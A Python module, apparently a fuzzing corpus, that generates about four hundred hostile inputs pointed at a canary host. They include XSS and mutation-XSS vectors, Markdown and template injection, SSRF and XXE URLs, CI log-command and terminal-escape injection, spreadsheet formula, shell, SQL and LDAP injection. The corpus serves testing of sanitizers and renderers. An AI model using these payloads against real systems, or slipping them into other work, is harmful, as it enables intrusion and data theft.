"""Hostile texts, some four hundred: what has broken out of pages, reports, terminals and CI logs elsewhere.

CODE is what each tries to run: it asks for an address that holds `canary`, from whatever page.
"""
CODE = "fetch(/canary/.source)"  # no space, no quote: it stands in unquoted attributes too
HOST = "//canary.example"

TAGS = """a abbr animate article audio b base bgsound body br button canvas command details dialog div embed fieldset font form frame frameset
iframe image img input isindex keygen label link listing main map marquee math menu meta meter noembed noframes noscript object option output p param
picture plaintext portal pre progress script search select slot source style svg table td template textarea title track tt video xml xmp xss""".split()

EVENTS = """onload onerror onfocus onmouseover onclick onanimationstart ontoggle onbegin onpageshow onscroll onwheel onpointerenter
onbeforeinput oncanplay onloadstart onhashchange onmessage onresize onsearch onstart ontransitionend onunhandledrejection onfocusin
onbeforematch oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation""".split()

SCHEMES = [
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", "\x01javascript:{c}", " javascript:{c}", "javascript&colon;{c}",
    "&#106;avascript:{c}", "&#x6a&#x61vascript:{c}", "javascript&#58;{c}", "javascript&#0000058{c}", "java&Tab;script:{c}", "java&NewLine;script:{c}",
    "&#x00;javascript:{c}", "javascript\u200b:{c}", "\u202ejavascript:{c}", "javascript://example.org/%0A{c}", "javascript://https://a.org/%0a{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD4obmV3IEltYWdlKS5zcmM9L2NhbmFyeS8uc291cmNlPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>", "DATA:text/html,x", "vbscript:msgbox(1)", "livescript:{c}", "mocha:{c}",
    "jar:https://canary.example/x!/y", "view-source:https://canary.example/", "file:///etc/passwd", "ftp://canary.example/", "ws://canary.example/", "blob:null/x",
    "about:blank", "chrome://settings", "ms-msdt:/id x", "intent://x#Intent;end", "tel:+33", "sms:1", "feed:javascript:{c}", "feed:https://canary.example/",
    "filesystem:https://canary.example/", "//canary.example/x", "/\\canary.example/x", "\\\\canary.example\\x", "https:canary.example", "https:/canary.example",
    "https:///canary.example", "https://user:pw@canary.example/", "https://a.org@canary.example/", "https://canary.example\\@a.org/", "https://a.org:0/", "https://0x7f.1/canary",
    "http://127.1/canary", "http://[::1]/canary", "http://169.254.169.254/canary", "https://canary.example/\"onmouseover={c}//", "https://canary.example/'onmouseover={c}//",
    "https://canary.example/`{c}`", "https://canary.example/<script>{c}</script>", "https://canary.example/?a=1&quot;onload={c}", "https://canary.example/#javascript:{c}",
    "https://xn--80ak6aa92e.com/", "https://\u0430pple.com/", "https://canary.example/%00", "https://canary.example/\u202egpj.exe", "https://a.org/ onload={c}",
    "mailto:a@b.org?cc=x@y.org&body=<script>", "mailto:a@b.org\r\nBcc:x@y.org", "mailto:\"<script>{c}</script>\"@b.org", "MAILTO:a@b.org", "mailto:", "https://", "https:// ",
]

# What opens and closes other contexts, and templates of many kinds.
CONTEXTS = [
    "<script>{c}</script>", "</script><script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/x>{c}</script>", "<script\n>{c}</script>", "<script>{c}//", "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script src={h}/x></script>", "<script src=data:,{c}></script>", "<!--<script>{c}</script>-->", "--><script>{c}</script><!--",
    "--!><script>{c}</script>", "<!--><script>{c}</script>", "<!---><script>{c}</script>", "]]><script>{c}</script>", "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<?php echo 1 ?>", "<% {c} %>", "<%= 7*7 %>", "{{ 7*7 }}", "{{ self }}", "{{ config }}", "{% include '/etc/passwd' %}",
    "{% raw %}{{ x }}{% endraw %}", "{# x #}", "{{constructor.constructor('{c}')()}}", "${{{c}}}", "#{7*7}", "{7*7}", "[[${7*7}]]", "{{'a'|safe}}<b>", "{%- endblock -%}", "@(1+1)", "*{7*7}", "~{x}", "{{{x}}}",
    "\" onmouseover={c} x=\"", "' onmouseover={c} x='", "` onmouseover={c} x=`", "\" autofocus onfocus={c} \"", "\"><img src=x onerror={c}>", "'><img src=x onerror={c}>", "><img src=x onerror={c}>",
    "x onerror={c}", "\\\"><img src=x onerror={c}>", "\\'-{c}-\\'", "';{c}//", "\";{c}//", "\\u003cscript\\u003e{c}", "\\x3cscript\\x3e{c}", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}", "&#60;script&#62;{c}&#60;/script&#62;", "&#x3c;img src=x onerror={c}&#x3e;", "&quot;onload={c}", "&#34;onload={c}", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "\u02bascript\u02ba", "\u2028{c}\u2029", "\u0130<script>", "\u1e9e<svg onload={c}>", "</title><script>{c}</script>", "</textarea><script>{c}</script>",
    "</style><script>{c}</script>", "</noscript><script>{c}</script>", "</template><script>{c}</script>", "</xmp><script>{c}</script>", "</iframe><script>{c}</script>", "</svg><script>{c}</script>", "</math><script>{c}</script>",
    "</head><body onload={c}>", "</a></p></div></main></body></html><script>{c}</script>", "<base href={h}/>", "<meta http-equiv=refresh content='0;url={h}/'>", "<meta charset=iso-2022-jp>", "<link rel=stylesheet href={h}/x.css>",
    "<link rel=import href={h}/x>", "<link rel=dns-prefetch href={h}>", "<style>@import '{h}/x'</style>", "<style>*{{background:url({h}/x)}}</style>", "<p style=background:url({h}/x)>", "<p style='behavior:url(x)'>", "<form action={h}><input name=x>",
    "<button formaction=javascript:{c}>x", "<isindex action=javascript:{c} type=image>", "<input type=image src={h}/x>", "<object data={h}/x>", "<embed src={h}/x>", "<iframe srcdoc='<script>{c}</script>'>", "<iframe src=javascript:{c}>",
    "<svg><script>{c}</script></svg>", "<svg><script href=data:,{c} />", "<svg><a xlink:href=javascript:{c}><text>x</text></a>", "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><use href={h}/x#y>", "<svg><image href={h}/x>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject>", "<svg><set attributeName=href to=javascript:{c}>", "<math><mi//xlink:href='data:x,<script>{c}</script>'>", "<math href=javascript:{c}>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={c}&gt;'>", "<svg></p><style><a id='</style><img src=1 onerror={c}>'>", "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>", "<math><annotation-xml encoding='text/html'><style><img title='</style><img src onerror={c}>'></style></annotation-xml>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror={c}&gt;", "<select><template><img src=x onerror={c}></template></select>", "<table><td><svg><desc><td></desc><img src=x onerror={c}>", "<option><style></option></select><img src=x onerror={c}></style>",
    "<a id=defaultView><a id=defaultView name=x href=javascript:{c}>", "<img name=getElementById>", "<form id=__proto__><input name=innerHTML>", "<img src=x:{c} onerror=eval(src)>", "<img src=`x`onerror={c}>", "<img/src=x/onerror={c}>",
    "<img \x0bsrc=x \x0conerror={c}>", "<img src='x' onerror='{c}'", "<img src=x onerror={c}//", "<body/onload={c}>", "<svg/onload={c}", "<svg onload\r\n=\r\n{c}>", "<x onclick={c}>x", "<details open ontoggle={c}>", "<video><source onerror={c}>",
    "<audio src=x onerror={c}>", "<marquee onstart={c}>", "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<video poster=javascript:{c}>", "<a href='&#106;avascript:{c}'>x</a>", "<a href=javas&#99;ript:{c}>x", "<a href=\"java&#x0A;script:{c}\">x</a>",
    "<a ping={h}/x href=#>x", "<img srcset='{h}/x 2x'>", "<picture><source srcset={h}/x>", "<link rel=preload as=image href={h}/x>", "<portal src={h}>", "<track src={h}/x>", "<slot onslotchange={c}>", "<div popover id=x onbeforetoggle={c}>", "<template shadowrootmode=open><img src=x onerror={c}>",
]

MARKDOWN = [
    "[x](javascript:{c})", "[x](<javascript:{c}>)", "[x]( javascript:{c} 't')", "[x](java\nscript:{c})", "[x](javascript&colon;{c})", "[x](&#106;avascript:{c})", "[x](\\javascript:{c})", "[x](javascript\\:{c})", "[x][1]\n\n[1]: javascript:{c}",
    "[x]\n\n[x]: <javascript:{c}> 'onload={c}'", "<javascript:{c}>", "<JAVASCRIPT:{c}>", "<data:text/html,x>", "<https://canary.example/\"onload={c}>", "![x](https://canary.example/x.png)", "![x]({h}/x.png)", "![x](javascript:{c})",
    "![x\"onerror={c}](x)", "![x](x 'y\"onerror={c}')", "[x](https://a.org/ \"y' onmouseover={c} z='\")", "[x](https://a.org/ '\"onmouseover={c}')", "[<img src=x onerror={c}>](https://a.org/)", "[![x](https://canary.example/i)](https://a.org/)",
    "```\"onload={c}\nx\n```", "```html <script>{c}</script>\nx\n```", "~~~'><script>{c}</script>\nx\n~~~", "``` {{onload={c}}}\nx\n```", "    <script>{c}</script>", "`<script>{c}</script>`", "`` ` ``<script>{c}</script>", "# <script>{c}</script>",
    "# x {{#id onload={c}}}", "x[^1]\n\n[^1]: <script>{c}</script>", "|a|<script>{c}</script>|\n|-|-|\n|b|c|", "|a|b|\n|:-\"onload={c}|-|\n", "- [x] <script>{c}</script>", "<!-- x --><script>{c}</script>", "<!-- x\n\n<script>{c}</script>", "<div\nonclick={c}\n>x</div>",
    "<div>\n\n<script>{c}</script>\n\n</div>", "$$<script>{c}</script>$$", "$\\href{{javascript:{c}}}{{x}}$", ":::x onload={c}\n:::", "*[x]: <script>{c}</script>", "[toc]", "{{: onload={c}}}", "@everyone", "@admin fixes #1", "GH-1", "https://canary.example/bare", "www.canary.example", "a@canary.example",
    "[x]({h})", "[x](/\\canary.example)", "[x](https:canary.example)", "[x](//canary.example)", "[x](\\\\canary.example)", "[x](https://canary.example@a.org)", "&#x1F;&#0;&#xFFFE;", "&#x202e;x", "\\<script>{c}\\</script>", "a\\\n<script>{c}</script>", "> > > <script>{c}</script>",
    "<details><summary>x</summary>", "</details></table></td><script>{c}</script>", "<sub><a href=//canary.example>x</a></sub>", "[x](https://a.org/)<!--", "\\", "[", "](", "![", "```", "~~~", "<", "<a href=\"", "&", "|", "***", "---", "===", "\t", "~~x~~", "~~~~",
]

MACHINES = [
    "::error::x", "::add-mask::a", "::set-output name=x::y", "::stop-commands::x", " ::error file=x::y", "\r::error::x", "\n::error::x", "\u2028::error::x", "\u00a0::warning::x", "##[error]x", "a ##[add-mask]e", "##vso[task.setvariable variable=x]y", "##teamcity[x]",
    "%0A::error::x", "%0D%0A::error::x", "%25", "section_start:1:x", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://canary.example\x07x\x1b]8;;\x07", "\x1b]52;c;eA==\x07", "\x1b[2J", "\x9b31m", "\x90q\x9c", "\x08\x08\x08", "\x7f", "\0", "a\0b", "\x1a", "\x04",
    "\u202eabc", "\u2066a\u2069", "\u200f", "\u200ba", "a\u200db", "\ufeffa", "a\u00adb", "\u034f", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\u0085", "\u180e", "\u115f", "\u3164", "Z" + "\u0335\u0321" * 60, "\u0430dmin",
    "\x1b$B<script>\x1b(B", "\x1b(J\\", "=1+1", "=cmd|'/c calc'!A0", "@SUM(1)", "+1", "-1", "\tx", "'", "\"", ",", ";", "$(id)", "`id`", "|id", "; id", "&& id", "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "/etc/passwd", "C:\\x", "CON", "file:///etc/passwd", "__proto__", "constructor", "toString",
    "null", "undefined", "NaN", "true", "0", "-0", "1e999", "${HOME}", "%s%n", "%x", "\\", "\\\\", "\\n", "\\u0000", "\\x00", "\\0", "\\", "'; DROP TABLE groups;--", "' OR 1=1", "*)(uid=*", "BEGIN:VCALENDAR", "x\r\nATTENDEE:y", "x\r\nSet-Cookie: a", "\ud7ff", "ﷺ" * 100, "A" * 1000, "I\u0307", "ß" * 50, "ﬃ",
]


def every():
    """All, each once, in a fixed order."""
    made = [f"<{tag} src={HOST}/x href=javascript:{CODE} onload={CODE} onerror={CODE} onfocus={CODE} autofocus tabindex=1>x</{tag}>" for tag in TAGS]
    made += [f"<img src=x {event}={CODE}>" if at % 2 else f"<svg {event}='{CODE}'>" for at, event in enumerate(EVENTS)]
    texts = SCHEMES + CONTEXTS + MARKDOWN + MACHINES
    made += [text.replace("{{", "\x00L").replace("}}", "\x00R").replace("{c}", CODE).replace("{h}", HOST).replace("\x00L", "{{").replace("\x00R", "}}") for text in texts]
    return list(dict.fromkeys(made))


if __name__ == "__main__":
    print(len(every()))
